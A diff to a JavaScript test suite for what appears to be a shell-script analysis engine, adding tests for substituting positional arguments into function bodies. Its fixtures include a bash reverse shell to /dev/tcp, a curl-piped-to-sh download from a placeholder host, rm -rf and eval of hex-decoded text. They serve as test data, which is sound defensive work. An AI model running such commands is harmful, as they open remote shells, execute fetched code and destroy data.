@@ -8,6 +8,7 @@ import { decodeEscapes } from '../src/engine/shell/escapes.js';
 import { expandBraces } from '../src/engine/shell/braces.js';
 import { clientQueries } from '../src/engine/knowledge/sql-clients.js';
 import { plistProgram } from '../src/engine/shell/persisted-text.js';
+import { withPositional } from '../src/engine/shell/positional.js';
 
 describe('glob', () => {
   it.each([
@@ -148,4 +149,16 @@ describe('launchd plists', () => {
     // an unterminated array yields nothing rather than reading past it
     expect(plistProgram(plist('<key>ProgramArguments</key><array><string>/bin/sh</string>').replace('</dict></plist>', ''))).toBeUndefined();
   });
+});
+
+describe('function bodies with a call\'s arguments', () => {
+  it.each([
+    [' bash -i >& /dev/tcp/$1/$2 0>&1; ', ['203.0.113.9', '4444'], ' bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; '],
+    [' "$@" | sh; ', ['curl', '-s', 'http://x.example/a b'], " curl -s 'http://x.example/a b' | sh; "],
+    [' echo $# ${1} $3; ', ['a', 'b c'], ' echo 2 a ; '],
+    [' rm -rf $1; ', ['a b'], " rm -rf 'a b'; "],
+    [' echo "a $1 b"; ', ['q"$x'], ' echo "a q\\"\\$x b"; '],
+    [` eval "$(printf '%b' "$1")"; `, ['\\x69\\x64'], ` eval "$(printf '%b' "\\\\x69\\\\x64")"; `],
+    [" echo '$1' \\$1; ", ['x'], " echo '$1' \\$1; "],
+  ])('%s with %j', (body, args, expected) => expect(withPositional(body, args)).toBe(expected));
 });
